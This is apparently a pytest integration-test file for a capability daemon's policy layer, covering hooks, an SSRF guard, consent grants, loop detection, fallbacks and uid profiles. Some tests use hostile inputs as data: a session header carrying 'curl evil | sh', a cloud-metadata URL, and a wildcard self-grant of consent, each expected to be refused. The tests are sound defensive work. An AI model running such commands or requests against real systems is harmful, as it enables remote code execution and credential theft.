"""The policy layer through the real daemon: hooks, the SSRF guard, consent, pre-flight,
loop detection, error routing and profiles, over the real socket."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from capd.sidecar.client._client import Response, request
from tests.helpers.daemon import DaemonProcess
from tests.helpers.peers import curl_as, open_up

pytestmark = pytest.mark.slow  # starts the real daemon and the CLI as processes

PACK = '''
import asyncio
from pathlib import Path

from pydantic import BaseModel, Field
from capd.registry import Blocked, after_call, before_call, op

HERE = Path(__file__).parent


class Text(BaseModel):
    text: str = Field(description="Any text.")


class Fetch(BaseModel):
    url: str = Field(description="What to fetch.")


class Line(BaseModel):
    line: str


class Empty(BaseModel):
    pass


@op("pol.echo")
async def echo(params: Text) -> str:
    return params.text


@op("pol.same")
async def same(params: Text) -> str:
    return "nothing new"


@op("pol.fetch")
async def fetch(params: Fetch) -> str:
    return f"fetched {params.url}"


@op("pol.write")
def write(params: Line, *, target: str) -> str:
    with open(target, "a", encoding="utf-8") as handle:
        handle.write(params.line + "\\n")
    return "written"


@op("pol.slow")
async def slow(params: Text) -> str:
    await asyncio.sleep(5)
    return "late"


@before_call("pol.*")
def guard_words(capability, params, caller):
    if "forbidden" in str(params.model_dump()):
        raise Blocked("guard_words: the word 'forbidden' is not allowed here")
    if "annotate" in str(params.model_dump()):
        return "looked at it"
    return None


@before_call("pol.echo", name="pol:boom")
async def boom(capability, params, caller):
    if params.text == "boom":
        raise RuntimeError("the hook itself is broken")


@op("pol.fails")
async def fails(params: Text) -> str:
    raise TimeoutError("never answers")


@after_call("pol.echo")
def tamper(capability, params, caller, result):
    if isinstance(result.result, str) and result.result == "tamper":
        result.__dict__["result"] = "TAMPERED"


@after_call("pol.*")
def audit(capability, params, caller, result):
    with open(HERE / "audit.log", "a", encoding="utf-8") as handle:
        handle.write(f"{capability.name} {result.status} {caller.session}\\n")
'''

CAPS = '''
[[capability]]
name = "pol.echo"
op = "pol.echo"
summary = "Echo text back."

[[capability]]
name = "pol.same"
op = "pol.same"
summary = "Answer the same thing whatever is asked."

[[capability]]
name = "pol.fetch"
op = "pol.fetch"
summary = "Fetch a URL."

[[capability]]
name = "pol.write"
op = "pol.write"
summary = "Append a line to the vault."
mutates_state = true
consent_operations = ["vault.write"]
options = { target = "{out}" }

[[capability]]
name = "pol.primary"
op = "pol.slow"
summary = "A read that times out, then falls back by itself."
timeout_s = 0.2
auto_fallback = true

[[capability.on_error]]
error_type = "timeout"
try = ["pol.backup_down", "pol.backup"]

[[capability]]
name = "pol.manual"
op = "pol.slow"
summary = "A read that times out and names what to try."
timeout_s = 0.2

[[capability.on_error]]
error_type = "timeout"
try = ["pol.backup_down", "pol.backup"]

[[capability]]
name = "pol.cycle_a"
op = "pol.fails"
summary = "Falls back to b."
auto_fallback = true

[[capability.on_error]]
error_type = "*"
try = ["pol.cycle_b"]

[[capability]]
name = "pol.cycle_b"
op = "pol.fails"
summary = "Falls back to a."
auto_fallback = true

[[capability.on_error]]
error_type = "*"
try = ["pol.cycle_a"]

[[capability]]
name = "pol.ack"
op = "pol.echo"
summary = "A write that acknowledges with the same answer each time."
mutates_state = true

[[capability]]
name = "pol.backup"
op = "pol.echo"
summary = "The backup echo."

[[capability]]
name = "pol.quick_fail"
op = "pol.fails"
summary = "A read that fails at once and falls back to a slow one."
auto_fallback = true

[[capability.on_error]]
error_type = "*"
try = ["pol.slow_backup"]

[[capability]]
name = "pol.slow_backup"
op = "pol.slow"
summary = "A backup that takes 5 s."
timeout_s = 10

[[capability]]
name = "pol.backup_down"
op = "pol.echo"
summary = "A backup whose tool is down."
requires = ["down"]
'''


def write_config(folder: Path, **policy: Any) -> Path:
    (folder / "pol_pack.py").write_text(PACK)
    (folder / "caps.toml").write_text(CAPS)
    extra = policy.pop("extra", "")
    top = policy.pop("top", "")
    config = folder / "capd.toml"
    config.write_text(top + textwrap.dedent(f"""
        plugins = ["pol_pack"]
        plugin_paths = ["."]
        declarations = ["caps.toml"]
        entry_points = false
        state_dir = "state"
        recheck_cooldown_s = 3600
        recheck_interval_s = 3600
        probe_live_interval_s = 3600

        [vars]
        out = "{folder}/out.txt"

        [tools.down]
        kind = "path"
        path = "{folder}/no-such-folder"
        timeout_s = 1

        [policy]
        before = ["capd:ssrf_guard", "pol_pack:guard_words", "pol:boom"]
        after = ["pol_pack:tamper", "pol_pack:audit"]

        [policy.ssrf]
        allow = ["allowed.example"]

        [policy.loops]
        per_minute_warn = 8
        per_minute_block = 10
    """) + extra)
    return config


@pytest.fixture
def pol(short_tmp: Path) -> Iterator[Callable[..., DaemonProcess]]:
    started: list[DaemonProcess] = []

    def start(**policy: Any) -> DaemonProcess:
        config = write_config(short_tmp, **policy)
        daemon = DaemonProcess(config, short_tmp / "capd.sock").start().wait_ready()
        started.append(daemon)
        return daemon

    yield start
    for daemon in started:
        daemon.kill()


def call(daemon: DaemonProcess, name: str, params: dict[str, Any],
         session: str | None = None) -> Response:
    headers = {"Capd-Session": session} if session else None
    return request(daemon.socket, "POST", f"/call/{name}", body=params, headers=headers)


def cli(daemon: DaemonProcess, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "capd", *args, "--socket", str(daemon.socket)],
                          capture_output=True, text=True, timeout=60, check=False)


# -------------------------------------------------------------------------------- hooks


def test_hooks_allow_block_annotate_and_fail_closed(pol: Callable[..., DaemonProcess],
                                                    short_tmp: Path) -> None:
    daemon = pol()
    ok = call(daemon, "pol.echo", {"text": "hello"}, session="s-hooks")
    assert (ok.status, ok.body["result"]) == (200, "hello")
    blocked = call(daemon, "pol.echo", {"text": "a forbidden word"})
    assert (blocked.status, blocked.body["status"], blocked.body["error_type"]) == (
        403, "error_blocked", "blocked")
    assert blocked.body["message"] == "guard_words: the word 'forbidden' is not allowed here"
    noted = call(daemon, "pol.echo", {"text": "please annotate"})
    assert noted.status == 200
    assert noted.body["warnings"] == ["pol_pack:guard_words: looked at it"]
    broken = call(daemon, "pol.echo", {"text": "boom"})
    assert (broken.status, broken.body["error_type"]) == (403, "blocked")
    assert "before-hook pol:boom failed (RuntimeError: the hook itself is broken)" in \
        broken.body["message"]
    assert "fail closed" in broken.body["message"]
    event = daemon.wait_event("policy", where=lambda e: e.get("kind") == "hook")
    assert event["decision"] == "block"
    # the after-hook saw every call, blocked ones included, with the session
    daemon.wait_until(lambda: (short_tmp / "audit.log").exists())
    audit = (short_tmp / "audit.log").read_text().splitlines()
    assert "pol.echo success 0:s-hooks" in audit  # a session is qualified by its uid
    assert "pol.echo error_blocked None" in audit  # observers see refusals too
    metrics = daemon.call("GET", "/metrics").body
    assert 'capd_policy_decisions_total{decision="block",kind="hook"} 2.0' in metrics


def test_the_ssrf_guard_refuses_inside_addresses_and_allows_the_allowlist(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    metadata = call(daemon, "pol.fetch", {"url": "http://169.254.169.254/latest/meta-data/"})
    assert (metadata.status, metadata.body["error_type"]) == (403, "blocked")
    assert "link-local" in metadata.body["message"]
    local = call(daemon, "pol.fetch", {"url": "http://localhost/"})
    assert (local.status, local.body["error_type"]) == (403, "blocked")
    assert "loopback" in local.body["message"]
    allowed = call(daemon, "pol.fetch", {"url": "http://allowed.example/page"})
    assert (allowed.status, allowed.body["result"]) == (200, "fetched http://allowed.example/page")


def test_an_unknown_hook_name_stops_the_start_with_a_suggestion(short_tmp: Path) -> None:
    config = write_config(short_tmp)
    config.write_text(config.read_text().replace('"pol:boom"', '"pol_pack:guard_word"'))
    done = subprocess.run([sys.executable, "-m", "capd", "serve", "--config", str(config),
                           "--socket", str(short_tmp / "capd.sock")],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 1
    assert "no plugin marks a hook 'pol_pack:guard_word'" in done.stderr
    assert "did you mean 'pol_pack:guard_words'?" in done.stderr


# ------------------------------------------------------------------------------ consent


def test_consent_required_then_granted_then_allowed_then_expired(
        pol: Callable[..., DaemonProcess], short_tmp: Path) -> None:
    daemon = pol()
    refused = call(daemon, "pol.write", {"line": "one"})
    assert (refused.status, refused.body["error_type"]) == (403, "consent_required")
    assert refused.body["missing_consent"] == ["vault.write"]
    assert "capd consent grant vault.write" in refused.body["message"]
    assert not (short_tmp / "out.txt").exists()
    granted = cli(daemon, "consent", "grant", "vault.write", "--ttl", "3s", "--json")
    assert granted.returncode == 0, granted.stderr
    grant = json.loads(granted.stdout)
    assert grant["operations"] == ["vault.write"]
    listed = json.loads(cli(daemon, "consent", "list", "--json").stdout)
    assert [g["id"] for g in listed["grants"]] == [grant["id"]]
    allowed = call(daemon, "pol.write", {"line": "two"})
    assert (allowed.status, allowed.body["result"]) == (200, "written")
    assert (short_tmp / "out.txt").read_text() == "two\n"
    time.sleep(3.2)  # the grant's TTL runs out (the subject of this step is time passing)
    expired = call(daemon, "pol.write", {"line": "three"})
    assert (expired.status, expired.body["error_type"]) == (403, "consent_required")
    assert (short_tmp / "out.txt").read_text() == "two\n"


def test_a_session_grant_covers_that_session_only_and_survives_a_restart(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    # the session a root caller sends as "agent-1" is "0:agent-1": it belongs to its uid
    done = cli(daemon, "consent", "grant", "vault.write", "--session", "0:agent-1", "--ttl", "1h")
    assert done.returncode == 0, done.stderr
    assert call(daemon, "pol.write", {"line": "a"}, session="agent-1").status == 200
    assert call(daemon, "pol.write", {"line": "b"}, session="agent-2").status == 403
    assert daemon.stop() == 0
    again = pol()
    assert call(again, "pol.write", {"line": "c"}, session="agent-1").status == 200
    grant_id = json.loads(cli(again, "consent", "list", "--json").stdout)["grants"][0]["id"]
    assert cli(again, "consent", "revoke", grant_id).returncode == 0
    assert call(again, "pol.write", {"line": "d"}, session="agent-1").status == 403
    unknown = cli(again, "consent", "revoke", "nope")
    assert unknown.returncode == 1
    assert "no consent grant 'nope'" in unknown.stderr


def test_consent_rows_are_never_agent_tools() -> None:
    from capd.sidecar._table import COMMANDS

    rows = {row.id: row for row in COMMANDS}
    for name in ("consent-grant", "consent-list", "consent-revoke"):
        assert rows[name].mcp is None
        assert "agent that could grant it would consent to itself" in (
            rows[name].operator_only or "")


def test_preflight_names_exactly_the_missing_consent_and_each_refusal(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    plan = {"calls": [
        {"capability": "pol.write", "params": {"line": "x"}},
        {"capability": "pol.nope", "params": {}},
        {"capability": "pol.backup_down", "params": {"text": "x"}},
        {"capability": "pol.echo", "params": {"txt": "typo"}},
        {"capability": "pol.echo", "params": {"text": "fine"}},
    ]}
    answer = daemon.call("POST", "/preflight", plan)
    assert answer.status == 200, answer.body
    body = answer.body
    assert body["consent_needed"] == ["vault.write"]
    assert [(r["index"], r["reason"]) for r in body["refused"]] == [
        (1, "unknown"), (2, "disabled"), (3, "invalid_params")]
    assert body["refused"][1]["missing_tools"] == ["down"]
    assert body["ready"] == [0, 4]
    assert body["ok"] is False
    bad = daemon.call("POST", "/preflight", {"calls": "all of them"})
    assert (bad.status, bad.body["errors"][0]["loc"]) == (422, ["calls"])


# -------------------------------------------------------------------------------- loops


def test_a_repeated_call_warns_then_blocks_and_an_operator_reset_clears_it(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answers = [call(daemon, "pol.echo", {"text": "again"}, session="loop-1") for _ in range(5)]
    assert [a.status for a in answers] == [200, 200, 200, 200, 403]
    assert answers[1].body["warnings"] == []
    assert "called 3 times with the same parameters" in answers[2].body["warnings"][0]
    assert answers[4].body["error_type"] == "loop_detected"
    assert "Do not call it again with these parameters" in answers[4].body["message"]
    # another session is not held up
    assert call(daemon, "pol.echo", {"text": "again"}, session="loop-2").status == 200
    listed = json.loads(cli(daemon, "sessions", "list", "--json").stdout)["sessions"]
    assert "0:loop-1" in {s["session"] for s in listed}
    done = cli(daemon, "sessions", "reset", "0:loop-1")
    assert done.returncode == 0, done.stderr
    assert call(daemon, "pol.echo", {"text": "again"}, session="loop-1").status == 200


def test_the_operators_own_programs_are_not_counted_as_loops(
        pol: Callable[..., DaemonProcess]) -> None:
    """A program of the operator's (the daemon's uid, no Capd-Session) polling one status
    or calling past the per-minute limit is never refused as a loop by default."""
    daemon = pol()
    polls = [call(daemon, "pol.echo", {"text": "status?"}).status for _ in range(12)]
    assert polls == [200] * 12
    answers = [call(daemon, "pol.same", {"text": "status?"}) for _ in range(6)]
    assert [a.status for a in answers] == [200] * 6
    assert all(a.body["warnings"] == [] for a in answers)


def test_applies_to_everyone_counts_the_operator_too(
        pol: Callable[..., DaemonProcess]) -> None:
    """[policy.loops] applies_to = "everyone": a caller that drops the header is counted
    by its peer (uid and pid), so the operator's fifth identical call is refused."""
    daemon = pol(extra='applies_to = "everyone"\n')
    bare = [call(daemon, "pol.echo", {"text": "again"}).status for _ in range(5)]
    assert bare == [200, 200, 200, 200, 403]


def test_an_agent_uid_without_a_session_is_still_counted(
        pol: Callable[..., DaemonProcess], peer_uid: int) -> None:
    """An unbound non-operator uid (allow_uids) is an agent: without Capd-Session it is
    counted by uid and grant, and its fifth identical call is refused."""
    daemon = pol(top=f"allow_uids = [{peer_uid}]\n")
    open_up(daemon)
    body = json.dumps({"text": "again"})
    statuses = [curl_as(peer_uid, daemon.socket, "/call/pol.echo", body) for _ in range(5)]
    assert statuses == ["200", "200", "200", "200", "403"]
    # the operator is not held up by the agent's loop
    assert call(daemon, "pol.echo", {"text": "again"}).status == 200


def test_the_same_answer_again_and_again_warns_then_blocks(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answers = [call(daemon, "pol.same", {"text": f"try {i}"}, session="np") for i in range(5)]
    assert [a.status for a in answers] == [200, 200, 200, 200, 403]
    assert "answered the same result 3 times in a row" in answers[2].body["warnings"][0]
    assert answers[4].body["error_type"] == "loop_detected"
    assert "will not make progress" in answers[4].body["message"]


def test_too_many_calls_a_minute_warn_then_block(pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answers = [call(daemon, "pol.echo", {"text": f"n{i}"}, session="freq") for i in range(11)]
    statuses = [a.status for a in answers]
    assert statuses == [200] * 10 + [403]
    assert answers[7].body["warnings"] == []
    assert "called 9 times in the last minute" in answers[8].body["warnings"][0]
    assert "limit 10" in answers[10].body["message"]


# ---------------------------------------------------------------------------- fallbacks


def test_an_error_chain_orders_alternatives_and_auto_fallback_answers(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    manual = call(daemon, "pol.manual", {"text": "hi"})
    assert (manual.status, manual.body["error_type"]) == (503, "timeout")
    assert manual.body["alternatives"] == ["pol.backup"]
    assert manual.body["unavailable_alternatives"] == {
        "pol.backup_down": "disabled: missing down"}
    auto = call(daemon, "pol.primary", {"text": "hi"})
    assert (auto.status, auto.body["status"], auto.body["result"]) == (200, "success", "hi")
    assert (auto.body["capability"], auto.body["answered_by"]) == ("pol.primary", "pol.backup")
    assert "pol.backup answered instead" in auto.body["message"]


# ----------------------------------------------------------------------------- profiles


def test_a_uid_bound_to_a_profile_is_refused_outside_it_over_the_raw_socket(
        pol: Callable[..., DaemonProcess], peer_uid: int) -> None:
    daemon = pol(top=f"allow_uids = [{peer_uid}]\n", extra=textwrap.dedent(f"""
        [profiles.reader]
        capabilities = ["pol.echo"]

        [[peers]]
        uid = {peer_uid}
        profile = "reader"
    """))
    open_up(daemon)
    inside = curl_as(peer_uid, daemon.socket, "/call/pol.echo", body='{"text": "hi"}')
    assert inside == "200"
    outside = curl_as(peer_uid, daemon.socket, "/call/pol.same", body='{"text": "hi"}')
    assert outside == "404"  # outside the grant: the same answer as a name never declared
    # hidden from its listing, visible to the daemon's own user
    assert curl_as(peer_uid, daemon.socket, "/capabilities/pol.same") == "404"
    assert daemon.call("GET", "/capabilities/pol.same").status == 200
    event = daemon.wait_event("policy", where=lambda e: e.get("kind") == "grant")
    assert (event["decision"], event["capability"]) == ("block", "pol.same")


# ---------------------------------------------------------------- what the review found


def test_operator_only_rows_refuse_a_profile_bound_or_other_uid(
        pol: Callable[..., DaemonProcess], peer_uid: int) -> None:
    daemon = pol(top=f"allow_uids = [{peer_uid}]\n", extra=textwrap.dedent(f"""
        [profiles.reader]
        capabilities = ["pol.echo", "pol.same"]

        [[peers]]
        uid = {peer_uid}
        profile = "reader"
    """))
    open_up(daemon)
    grant = curl_as(peer_uid, daemon.socket, "/consent",
                    body='{"operations": ["*"], "ttl": "52w"}')
    assert grant == "403"
    assert curl_as(peer_uid, daemon.socket, "/sessions") == "403"
    assert curl_as(peer_uid, daemon.socket, "/sessions/x/reset", body="{}") == "403"
    assert json.loads(cli(daemon, "consent", "list", "--json").stdout)["grants"] == []
    # a typo is answered without naming what the profile hides
    typo = curl_as(peer_uid, daemon.socket, "/capabilities/pol.writ")
    assert typo == "404"
    event = daemon.wait_event("operator_only_denied")
    assert event["uid"] == peer_uid


def test_a_session_name_is_its_uids_and_must_be_plain(pol: Callable[..., DaemonProcess],
                                                      short_tmp: Path) -> None:
    daemon = pol()
    bad = call(daemon, "pol.echo", {"text": "x"}, session="x; curl evil | sh #")
    assert bad.status == 400
    assert "Capd-Session" in bad.body["detail"]
    refused = call(daemon, "pol.write", {"line": "a"}, session="agent-9")
    assert "--session 0:agent-9" in refused.body["message"]


def test_a_fallback_gets_what_is_left_of_the_callers_timeout(
        pol: Callable[..., DaemonProcess]) -> None:
    """Capd-Timeout bounds the whole call: the fallback runs within what the primary left
    of it (not its own 10 s), and a fallback that overruns it leaves the primary's error."""
    daemon = pol()
    started = time.monotonic()
    answer = request(daemon.socket, "POST", "/call/pol.quick_fail", body={"text": "x"},
                     headers={"Capd-Timeout": "0.5"})
    elapsed = time.monotonic() - started
    assert answer.status == 503, answer.body
    assert (answer.body["error_type"], answer.body["answered_by"]) == ("TimeoutError", None)
    assert elapsed < 3, f"the fallback ran past the caller's 0.5 s: {elapsed:.1f} s"
    unbounded = call(daemon, "pol.quick_fail", {"text": "x"})  # no header: its own 10 s
    assert (unbounded.status, unbounded.body["answered_by"]) == (200, "pol.slow_backup")


def test_fallback_cycles_do_not_recurse(pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answer = call(daemon, "pol.cycle_a", {"text": "x"})
    assert answer.status == 503, answer.body
    assert answer.body["answered_by"] is None


def test_after_hooks_cannot_change_the_answer(pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answer = call(daemon, "pol.echo", {"text": "tamper"})
    assert (answer.status, answer.body["result"]) == (200, "tamper")


def test_a_write_acknowledging_the_same_way_each_time_is_not_a_loop(
        pol: Callable[..., DaemonProcess]) -> None:
    daemon = pol()
    answers = [call(daemon, "pol.ack", {"text": f"line {i}"}, session="w") for i in range(7)]
    assert [a.status for a in answers] == [200] * 7


def test_auto_fallback_answers_with_no_policy_step_configured(short_tmp: Path) -> None:
    """A capability's own fallback chain is not a policy step: with no hook, no binding
    and loop detection off, auto_fallback still answers."""
    config = write_config(short_tmp)
    text = config.read_text()
    for step in ('before = ["capd:ssrf_guard", "pol_pack:guard_words", "pol:boom"]',
                 'after = ["pol_pack:tamper", "pol_pack:audit"]'):
        assert step in text
        text = text.replace(step, "")
    config.write_text(text.replace("per_minute_warn = 8\n", "enabled = false\n")
                      .replace("per_minute_block = 10\n", ""))
    daemon = DaemonProcess(config, short_tmp / "capd.sock").start().wait_ready()
    try:
        auto = call(daemon, "pol.primary", {"text": "hi"})
        assert (auto.status, auto.body["result"]) == (200, "hi")
        assert auto.body["answered_by"] == "pol.backup"
    finally:
        daemon.kill()
